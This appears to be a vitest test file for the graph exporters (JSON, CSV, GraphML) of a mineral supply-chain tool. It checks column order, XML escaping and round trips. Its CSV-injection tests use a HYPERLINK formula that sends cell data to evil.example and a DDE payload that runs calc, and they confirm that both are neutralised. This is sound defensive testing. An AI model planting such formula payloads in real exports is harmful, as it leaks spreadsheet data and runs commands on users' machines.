import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { GraphDocumentSchema, GraphNodeSchema, RelationshipSchema, type Relationship } from '../../../graph/model.js';
import { UnprocessableError } from '../../../server/errors.js';
import {
  decodeListCell,
  encodeListCell,
  escapeFormulaCell,
  exportChunks,
  graphMlChunks,
  graphToGraphMl,
  graphToJson,
  graphToNodesCsv,
  graphToRelationshipsCsv,
  NODE_CSV_COLUMNS,
  RELATIONSHIP_CSV_COLUMNS,
  sortedNodes,
  sortedRelationships,
  unescapeFormulaCell,
  xmlEscape,
} from '../../../server/exporters/graph-export.js';
import { readGraphCsv } from '../../../server/importers/graph-csv.js';
import { EmbeddedGraphStore } from '../../../server/stores/embedded-store.js';
import type { GraphScan } from '../../../server/stores/graph-store.js';
import { fixtureNodes, fixtureRelationships } from '../stores/graph-store-contract.js';
import { randomScanArb } from './random-graph.js';

const UPDATED_AT = '2026-11-25T10:00:00.000Z';
const EXPORTED_AT = new Date('2026-11-25T12:00:00.000Z');

/** The contract fixture as a store scan returns it, with a fixed updatedAt. */
function fixtureScan(): GraphScan {
  return {
    version: 7,
    nodes: fixtureNodes.map((n) => GraphNodeSchema.parse(n)),
    relationships: fixtureRelationships.map((r) => ({ ...RelationshipSchema.parse(r), updatedAt: UPDATED_AT })),
  };
}

/** The columns the brief fixes; properties the model gains later come after them. */
const BRIEF_NODE_COLUMNS =
  'label,id,name,country,metal,rmapStatus,aliases,recycledOrScrap,lastAudit,saqScore,humanRightsRisk,tags,cahra,lists,cahraRegions,riskScore';
const BRIEF_RELATIONSHIP_COLUMNS = 'type,from,to,metal,share,source,updatedAt';

/** The empty cells of the columns after the brief's 16. */
const extraNodeCells = ','.repeat(NODE_CSV_COLUMNS.length - 16);

/** Canonical form of a document's rows for comparing: parsed, sorted. */
function canonicalDocument(doc: { nodes: unknown[]; relationships: unknown[] }) {
  const parsed = GraphDocumentSchema.parse(doc);
  return { nodes: sortedNodes(parsed.nodes), relationships: sortedRelationships(parsed.relationships) };
}

describe('columns', () => {
  it('puts the columns in the documented order', () => {
    expect(
      NODE_CSV_COLUMNS.slice(0, 16)
        .map((c) => c.name)
        .join(','),
    ).toBe(BRIEF_NODE_COLUMNS);
    expect(RELATIONSHIP_CSV_COLUMNS.map((c) => c.name).join(',')).toBe(BRIEF_RELATIONSHIP_COLUMNS);
    expect(Object.fromEntries(NODE_CSV_COLUMNS.slice(0, 16).map((c) => [c.name, c.kind]))).toEqual({
      label: 'text',
      id: 'text',
      name: 'text',
      country: 'text',
      metal: 'text',
      rmapStatus: 'text',
      aliases: 'list',
      recycledOrScrap: 'boolean',
      lastAudit: 'text',
      saqScore: 'number',
      humanRightsRisk: 'text',
      tags: 'list',
      cahra: 'boolean',
      lists: 'list',
      cahraRegions: 'list',
      riskScore: 'number',
    });
  });

  it('escapes the list separator inside items', () => {
    expect(encodeListCell(['a|b', 'c\\d', 'e'])).toBe('a\\|b|c\\\\d|e');
    expect(decodeListCell('a\\|b|c\\\\d|e')).toEqual(['a|b', 'c\\d', 'e']);
    // A backslash before anything else is an ordinary character.
    expect(decodeListCell('C:\\x|y')).toEqual(['C:\\x', 'y']);
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 1 }), { minLength: 1 }), (items) => {
        expect(decodeListCell(encodeListCell(items))).toEqual(items);
      }),
    );
  });
});

describe('export of the contract fixture', () => {
  it('writes the JSON document exactly', () => {
    expect(graphToJson(fixtureScan(), { exportedAt: EXPORTED_AT })).toBe(
      `{
  "version": 7,
  "exportedAt": "2026-11-25T12:00:00.000Z",
  "nodes": [
    {"label":"Company","id":"acme","name":"Acme Watches","country":"JP","saqScore":81,"tags":["focal"]},
    {"label":"Company","id":"t1a","name":"Tier One Alpha","country":"CN"},
    {"label":"Company","id":"t1b","name":"Tier One Beta","country":"CN","humanRightsRisk":"high"},
    {"label":"Company","id":"t2","name":"Tier Two Solder","country":"JP"},
    {"label":"Smelter","id":"S-AU-1","name":"Golden Refinery","country":"CN","metal":"gold","rmapStatus":"unknown","aliases":[]},
    {"label":"Smelter","id":"S-TIN-1","name":"Andes Tin Smelter","country":"PE","metal":"tin","rmapStatus":"conformant","aliases":["ATS Fundición"]},
    {"label":"Smelter","id":"S-TIN-2","name":"Yunnan Tin Works","country":"CN","metal":"tin","rmapStatus":"active","aliases":[]},
    {"label":"Country","id":"CD","name":"Congo, Democratic Republic of the","cahra":true,"lists":["EU-CAHRA","DFA-1502"]},
    {"label":"Country","id":"CN","name":"China","cahra":false,"lists":[]},
    {"label":"Country","id":"JP","name":"Japan","cahra":false,"lists":[]},
    {"label":"Country","id":"PE","name":"Peru","cahra":false,"lists":[]}
  ],
  "relationships": [
    {"type":"SUPPLIES","from":"CD","to":"S-TIN-1","metal":"tin","share":0.3,"source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"CN","to":"S-AU-1","metal":"gold","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"CN","to":"S-TIN-2","metal":"tin","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"PE","to":"S-TIN-1","metal":"tin","share":0.7,"source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"S-AU-1","to":"t1a","metal":"gold","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"S-TIN-1","to":"t2","metal":"tin","source":"cmrt t2.xlsx","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"S-TIN-2","to":"t1b","metal":"tin","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"t1a","to":"acme","metal":"gold","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"t1a","to":"acme","metal":"tin","share":0.6,"source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"t1b","to":"acme","metal":"tin","share":0.4,"source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"SUPPLIES","from":"t2","to":"t1a","metal":"tin","source":"manual","updatedAt":"${UPDATED_AT}"},
    {"type":"LOCATED_IN","from":"S-TIN-1","to":"PE","updatedAt":"${UPDATED_AT}"},
    {"type":"LOCATED_IN","from":"acme","to":"JP","updatedAt":"${UPDATED_AT}"}
  ]
}
`,
    );
  });

  it('writes an empty graph as a valid, importable document', () => {
    const json = graphToJson({ version: 0, nodes: [], relationships: [] }, { exportedAt: EXPORTED_AT });
    expect(JSON.parse(json)).toEqual({ version: 0, exportedAt: '2026-11-25T12:00:00.000Z', nodes: [], relationships: [] });
    expect(graphToNodesCsv({ nodes: [] })).toBe(`${NODE_CSV_COLUMNS.map((c) => c.name).join(',')}\r\n`);
  });

  it('writes nodes.csv and relationships.csv exactly (RFC 4180: CRLF, quoted commas)', () => {
    const scan = fixtureScan();
    const header = NODE_CSV_COLUMNS.map((c) => c.name).join(',');
    expect(graphToNodesCsv(scan)).toBe(
      `${[
        header,
        'Company,acme,Acme Watches,JP,,,,,,81,,focal,,,,',
        'Company,t1a,Tier One Alpha,CN,,,,,,,,,,,,',
        'Company,t1b,Tier One Beta,CN,,,,,,,high,,,,,',
        'Company,t2,Tier Two Solder,JP,,,,,,,,,,,,',
        'Smelter,S-AU-1,Golden Refinery,CN,gold,unknown,,,,,,,,,,',
        'Smelter,S-TIN-1,Andes Tin Smelter,PE,tin,conformant,ATS Fundición,,,,,,,,,',
        'Smelter,S-TIN-2,Yunnan Tin Works,CN,tin,active,,,,,,,,,,',
        'Country,CD,"Congo, Democratic Republic of the",,,,,,,,,,true,EU-CAHRA|DFA-1502,,',
        'Country,CN,China,,,,,,,,,,false,,,',
        'Country,JP,Japan,,,,,,,,,,false,,,',
        'Country,PE,Peru,,,,,,,,,,false,,,',
      ]
        .map((line, i) => (i === 0 ? line : line + extraNodeCells))
        .join('\r\n')}\r\n`,
    );
    expect(graphToRelationshipsCsv(scan)).toBe(
      `${[
        BRIEF_RELATIONSHIP_COLUMNS,
        `SUPPLIES,CD,S-TIN-1,tin,0.3,manual,${UPDATED_AT}`,
        `SUPPLIES,CN,S-AU-1,gold,,manual,${UPDATED_AT}`,
        `SUPPLIES,CN,S-TIN-2,tin,,manual,${UPDATED_AT}`,
        `SUPPLIES,PE,S-TIN-1,tin,0.7,manual,${UPDATED_AT}`,
        `SUPPLIES,S-AU-1,t1a,gold,,manual,${UPDATED_AT}`,
        `SUPPLIES,S-TIN-1,t2,tin,,cmrt t2.xlsx,${UPDATED_AT}`,
        `SUPPLIES,S-TIN-2,t1b,tin,,manual,${UPDATED_AT}`,
        `SUPPLIES,t1a,acme,gold,,manual,${UPDATED_AT}`,
        `SUPPLIES,t1a,acme,tin,0.6,manual,${UPDATED_AT}`,
        `SUPPLIES,t1b,acme,tin,0.4,manual,${UPDATED_AT}`,
        `SUPPLIES,t2,t1a,tin,,manual,${UPDATED_AT}`,
        `LOCATED_IN,S-TIN-1,PE,,,,${UPDATED_AT}`,
        `LOCATED_IN,acme,JP,,,,${UPDATED_AT}`,
      ].join('\r\n')}\r\n`,
    );
  });

  it('writes GraphML with a typed key for every attribute, nodes and edges exactly', () => {
    const xml = graphToGraphMl(fixtureScan(), { exportedAt: EXPORTED_AT });
    const lines = xml.split('\n');
    expect(lines.slice(0, 2)).toEqual([
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://graphml.graphdrawing.org/xmlns http://graphml.graphdrawing.org/xmlns/1.0/graphml.xsd">',
    ]);
    const keys = lines.filter((l) => l.trimStart().startsWith('<key '));
    expect(keys.slice(0, 17)).toEqual([
      '  <key id="g_version" for="graph" attr.name="version" attr.type="long"/>',
      '  <key id="g_exportedAt" for="graph" attr.name="exportedAt" attr.type="string"/>',
      '  <key id="n_label" for="node" attr.name="label" attr.type="string"/>',
      '  <key id="n_name" for="node" attr.name="name" attr.type="string"/>',
      '  <key id="n_country" for="node" attr.name="country" attr.type="string"/>',
      '  <key id="n_metal" for="node" attr.name="metal" attr.type="string"/>',
      '  <key id="n_rmapStatus" for="node" attr.name="rmapStatus" attr.type="string"/>',
      '  <key id="n_aliases" for="node" attr.name="aliases" attr.type="string"/>',
      '  <key id="n_recycledOrScrap" for="node" attr.name="recycledOrScrap" attr.type="boolean"/>',
      '  <key id="n_lastAudit" for="node" attr.name="lastAudit" attr.type="string"/>',
      '  <key id="n_saqScore" for="node" attr.name="saqScore" attr.type="double"/>',
      '  <key id="n_humanRightsRisk" for="node" attr.name="humanRightsRisk" attr.type="string"/>',
      '  <key id="n_tags" for="node" attr.name="tags" attr.type="string"/>',
      '  <key id="n_cahra" for="node" attr.name="cahra" attr.type="boolean"/>',
      '  <key id="n_lists" for="node" attr.name="lists" attr.type="string"/>',
      '  <key id="n_cahraRegions" for="node" attr.name="cahraRegions" attr.type="string"/>',
      '  <key id="n_riskScore" for="node" attr.name="riskScore" attr.type="double"/>',
    ]);
    expect(keys.slice(-5)).toEqual([
      '  <key id="e_type" for="edge" attr.name="type" attr.type="string"/>',
      '  <key id="e_metal" for="edge" attr.name="metal" attr.type="string"/>',
      '  <key id="e_share" for="edge" attr.name="share" attr.type="double"/>',
      '  <key id="e_source" for="edge" attr.name="source" attr.type="string"/>',
      '  <key id="e_updatedAt" for="edge" attr.name="updatedAt" attr.type="string"/>',
    ]);
    // One key per attribute: every node column but id, every relationship column but from and to, two graph ones.
    expect(keys).toHaveLength(2 + NODE_CSV_COLUMNS.length - 1 + RELATIONSHIP_CSV_COLUMNS.length - 2);
    const graph = lines.slice(lines.indexOf('  <graph id="oretrace" edgedefault="directed">'));
    expect(graph.slice(0, 3)).toEqual([
      '  <graph id="oretrace" edgedefault="directed">',
      '    <data key="g_version">7</data>',
      '    <data key="g_exportedAt">2026-11-25T12:00:00.000Z</data>',
    ]);
    expect(graph.filter((l) => l.startsWith('    <node '))).toHaveLength(11);
    expect(graph).toContain(
      '    <node id="S-TIN-1"><data key="n_label">Smelter</data><data key="n_name">Andes Tin Smelter</data><data key="n_country">PE</data><data key="n_metal">tin</data><data key="n_rmapStatus">conformant</data><data key="n_aliases">ATS Fundición</data></node>',
    );
    expect(graph).toContain(
      '    <node id="CD"><data key="n_label">Country</data><data key="n_name">Congo, Democratic Republic of the</data><data key="n_cahra">true</data><data key="n_lists">EU-CAHRA|DFA-1502</data></node>',
    );
    expect(graph).toContain(
      '    <node id="acme"><data key="n_label">Company</data><data key="n_name">Acme Watches</data><data key="n_country">JP</data><data key="n_saqScore">81</data><data key="n_tags">focal</data></node>',
    );
    const edges = graph.filter((l) => l.startsWith('    <edge '));
    expect(edges).toHaveLength(13);
    expect(edges[0]).toBe(
      `    <edge id="e0" source="CD" target="S-TIN-1"><data key="e_type">SUPPLIES</data><data key="e_metal">tin</data><data key="e_share">0.3</data><data key="e_source">manual</data><data key="e_updatedAt">${UPDATED_AT}</data></edge>`,
    );
    expect(edges[12]).toBe(
      `    <edge id="e12" source="acme" target="JP"><data key="e_type">LOCATED_IN</data><data key="e_updatedAt">${UPDATED_AT}</data></edge>`,
    );
    expect(graph.slice(-3)).toEqual(['  </graph>', '</graphml>', '']);
  });

  it('streams in chunks that join to the same text', () => {
    const scan = fixtureScan();
    expect([...exportChunks(scan, 'csv', { part: 'relationships' })].join('')).toBe(graphToRelationshipsCsv(scan));
    expect(() => exportChunks(scan, 'csv')).toThrow(/name the part/);
  });
});

describe('XML escaping', () => {
  it('escapes markup characters, keeps line breaks and tabs as references, replaces what XML cannot carry', () => {
    expect(xmlEscape(`<&"'>`)).toBe('&lt;&amp;&quot;&apos;&gt;');
    expect(xmlEscape('a\r\nb\tc')).toBe('a&#13;&#10;b&#9;c');
    expect(xmlEscape('Zürich 北京 😀 مرحبا')).toBe('Zürich 北京 😀 مرحبا');
    expect(xmlEscape('bell\u0007 nul\u0000 lone\uD800 bom\uFFFE')).toBe('bell\uFFFD nul\uFFFD lone\uFFFD bom\uFFFD');
  });

  it('escapes hostile names and ids in the document', () => {
    const scan: GraphScan = {
      version: 1,
      nodes: [
        GraphNodeSchema.parse({ label: 'Country', id: 'CD', name: 'Congo <"DRC"> & \'friends\'' }),
        GraphNodeSchema.parse({ label: 'Company', id: 'a&b<c>"d\'', name: 'Line one\nLine two', country: 'CD', tags: ['x|y', '<t>'] }),
      ],
      relationships: [RelationshipSchema.parse({ type: 'LOCATED_IN', from: 'a&b<c>"d\'', to: 'CD' })],
    };
    const xml = graphToGraphMl(scan, { exportedAt: EXPORTED_AT });
    expect(xml).toContain(
      '<node id="a&amp;b&lt;c&gt;&quot;d&apos;"><data key="n_label">Company</data><data key="n_name">Line one&#10;Line two</data>',
    );
    expect(xml).toContain('<data key="n_tags">x\\|y|&lt;t&gt;</data>');
    expect(xml).toContain('<data key="n_name">Congo &lt;&quot;DRC&quot;&gt; &amp; &apos;friends&apos;</data>');
    expect(xml).toContain('<edge id="e0" source="a&amp;b&lt;c&gt;&quot;d&apos;" target="CD">');
    // Outside markup, no raw metacharacter is left in any line.
    for (const line of xml.split('\n').filter((l) => l.includes('<data'))) {
      const text = line.replace(/<[^>]*>/g, '');
      expect(text).not.toMatch(/[<>"']|&(?!(amp|lt|gt|quot|apos|#\d+);)/);
    }
  });

  it('refuses a GraphML export when an id names nodes of two labels, before writing anything', () => {
    const scan: GraphScan = {
      version: 1,
      nodes: [
        GraphNodeSchema.parse({ label: 'Company', id: 'X1', name: 'X company', country: 'JP' }),
        GraphNodeSchema.parse({ label: 'Smelter', id: 'X1', name: 'X smelter', country: 'JP', metal: 'tin' }),
      ],
      relationships: [],
    };
    let err: unknown;
    try {
      graphMlChunks(scan);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(UnprocessableError);
    expect((err as UnprocessableError).fields).toEqual([
      { path: 'nodes.X1', message: 'id "X1" names both a Company and a Smelter; GraphML needs ids unique across labels' },
    ]);
  });
});

/** What a spreadsheet takes for the start of a formula (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every data cell of a CSV export, as a spreadsheet reads them. */
const dataCells = (text: string): string[] => (parse(text, { bom: true }) as string[][]).slice(1).flat();

describe('spreadsheet formulas (CSV injection)', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const CMD = "+cmd|' /C calc'!A0";

  it('prefixes a quote to text and list cells that a spreadsheet would run, and to quotes before them', () => {
    expect(escapeFormulaCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(escapeFormulaCell(`${start}x`)).toBe(`'${start}x`);
    // A cell that already starts with quotes before such a character gets one more, so the import can tell.
    expect(escapeFormulaCell("'=x")).toBe("''=x");
    expect(escapeFormulaCell("''@x")).toBe("'''@x");
    // Anything else is written as it is: names with an apostrophe, dashes further in, empty cells.
    for (const plain of ["'t Hooft Metaal", "'quoted'", "'", 'a=b', 'Tin-Smelter', '', '0.5']) expect(escapeFormulaCell(plain)).toBe(plain);
    expect(unescapeFormulaCell(`'${HYPERLINK}`)).toBe(HYPERLINK);
    expect(unescapeFormulaCell("''=x")).toBe("'=x");
    expect(unescapeFormulaCell("'t Hooft Metaal")).toBe("'t Hooft Metaal");
  });

  it('is a bijection: unescape(escape(s)) is s, and no escaped cell starts a formula', () => {
    const unit = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '"', ',', '|', '\\', '\n', '中');
    const cellArb = fc.oneof(fc.string({ unit, maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 8 }));
    fc.assert(
      fc.property(cellArb, (s) => {
        const escaped = escapeFormulaCell(s);
        expect(unescapeFormulaCell(escaped)).toBe(s);
        expect(escaped).not.toMatch(FORMULA_START);
        // Only a cell that needs it changes, by exactly one leading quote.
        expect(escaped).toBe(/^'*[=+\-@\t\r]/.test(s) ? `'${s}` : s);
      }),
      { numRuns: 2000 },
    );
  });

  it('writes a hostile company name and tag neutralised, numbers and booleans as they are', () => {
    const scan = {
      version: 1,
      nodes: [
        GraphNodeSchema.parse({ label: 'Company', id: '@evil', name: HYPERLINK, country: 'JP', tags: [CMD, '=2+3'], saqScore: 12.5 }),
        GraphNodeSchema.parse({
          label: 'Smelter',
          id: 'S1',
          name: "'t Hooft Metaal",
          country: 'NL',
          metal: 'tin',
          aliases: ['-Tin', 'Tin-B'],
          recycledOrScrap: false,
        }),
      ],
      // A share below 0 cannot be stored ((0, 1]); written here to show a number column is left alone.
      relationships: [
        { type: 'SUPPLIES', from: 'S1', to: '@evil', metal: 'tin', share: -0.5, source: '+cmrt.xlsx', updatedAt: UPDATED_AT },
      ],
    } as GraphScan;
    const nodes = graphToNodesCsv(scan).split('\r\n');
    expect(nodes[1]).toBe(
      `Company,'@evil,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",JP,,,,,,12.5,,'+cmd\\|' /C calc'!A0|=2+3,,,,${extraNodeCells}`,
    );
    expect(nodes[2]).toBe(`Smelter,S1,'t Hooft Metaal,NL,tin,unknown,'-Tin|Tin-B,false,,,,,,,,${extraNodeCells}`);
    expect(graphToRelationshipsCsv(scan).split('\r\n')[1]).toBe(`SUPPLIES,S1,'@evil,tin,-0.5,'+cmrt.xlsx,${UPDATED_AT}`);
    // JSON and GraphML are not read by spreadsheets: they keep the text as it is.
    expect(graphToJson(scan)).toContain(`"name":${JSON.stringify(HYPERLINK)}`);
    expect(graphToGraphMl(scan)).toContain(`<data key="n_tags">${xmlEscape(encodeListCell([CMD, '=2+3']))}</data>`);
  });
});

describe('round trips', () => {
  let dirs: string[] = [];
  const stores: EmbeddedGraphStore[] = [];
  const freshStore = async () => {
    const dir = await mkdtemp(join(tmpdir(), 'oretrace-export-'));
    dirs.push(dir);
    const store = new EmbeddedGraphStore({ dataDir: dir });
    await store.init();
    stores.push(store);
    return store;
  };
  beforeEach(() => {
    dirs = [];
  });
  afterEach(async () => {
    for (const s of stores.splice(0)) await s.close();
    for (const d of dirs) await rm(d, { recursive: true, force: true });
  });

  const withoutUpdatedAt = (rs: Relationship[]) => sortedRelationships(rs).map(({ updatedAt: _u, ...r }) => r);

  it('JSON export → import into a fresh embedded store → the same scan', async () => {
    const source = await freshStore();
    await source.importGraph({ nodes: fixtureNodes, relationships: fixtureRelationships });
    const before = await source.scan();
    const doc = JSON.parse(graphToJson(before));
    expect(doc.version).toBe(before.version);

    const target = await freshStore();
    const result = await target.importGraph(doc);
    expect(result).toMatchObject({ nodesUpserted: 11, relationshipsUpserted: 13 });
    const after = await target.scan();
    expect(sortedNodes(after.nodes)).toEqual(sortedNodes(before.nodes));
    // updatedAt is the store's: set on every write.
    expect(withoutUpdatedAt(after.relationships)).toEqual(withoutUpdatedAt(before.relationships));
  });

  it('CSV export → CSV import → the same document, and the same store scan', async () => {
    const scan = fixtureScan();
    const csv = await readGraphCsv({ nodes: graphToNodesCsv(scan), relationships: graphToRelationshipsCsv(scan) });
    expect(canonicalDocument(csv.document)).toEqual({
      nodes: sortedNodes(scan.nodes),
      relationships: sortedRelationships(scan.relationships),
    });

    const target = await freshStore();
    await target.importGraph(csv.document);
    const after = await target.scan();
    expect(sortedNodes(after.nodes)).toEqual(sortedNodes(scan.nodes));
    expect(withoutUpdatedAt(after.relationships)).toEqual(withoutUpdatedAt(scan.relationships));
  });

  it('random graphs with hostile text survive JSON and CSV exactly', async () => {
    await fc.assert(
      fc.asyncProperty(randomScanArb, async (scan) => {
        const expected = { nodes: sortedNodes(scan.nodes), relationships: sortedRelationships(scan.relationships) };
        const json = JSON.parse(graphToJson(scan));
        expect(json.version).toBe(scan.version);
        expect(canonicalDocument(json)).toEqual(expected);
        const csv = await readGraphCsv({ nodes: graphToNodesCsv(scan), relationships: graphToRelationshipsCsv(scan) });
        expect(canonicalDocument(csv.document)).toEqual(expected);
        // The text is hostile ("=", "+", "-", "@" and "'" start names, ids, items), yet no cell starts a formula.
        for (const cell of [...dataCells(graphToNodesCsv(scan)), ...dataCells(graphToRelationshipsCsv(scan))])
          expect(cell).not.toMatch(FORMULA_START);
        // Bytes, as a file or an upload carries them.
        const bytes = await readGraphCsv({
          nodes: Buffer.from(graphToNodesCsv(scan)),
          relationships: Buffer.from(graphToRelationshipsCsv(scan)),
        });
        expect(bytes.document).toEqual(csv.document);
      }),
      { numRuns: 150 },
    );
    // About 1.5 s alone; more on a loaded machine.
  }, 60_000);
});
